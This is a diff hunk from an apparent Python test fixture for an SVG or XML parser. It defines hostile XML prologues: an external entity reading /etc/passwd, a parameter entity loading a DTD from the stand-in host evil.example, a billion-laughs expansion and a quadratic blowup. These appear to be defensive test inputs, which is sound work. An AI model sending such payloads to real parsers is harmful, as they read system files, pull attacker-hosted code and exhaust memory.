@@ -40,7 +40,7 @@ DRAWINGS = {
 }
 LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10))
 PROLOGUES = {
-    "outer entity": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+    "outer entity": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:/etc/passwd">]>',
     "parameter entity": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
     "billion laughs": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">' + LAUGHS + b"]>",
     "quadratic": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "' + b"a" * 50_000 + b'">]>',
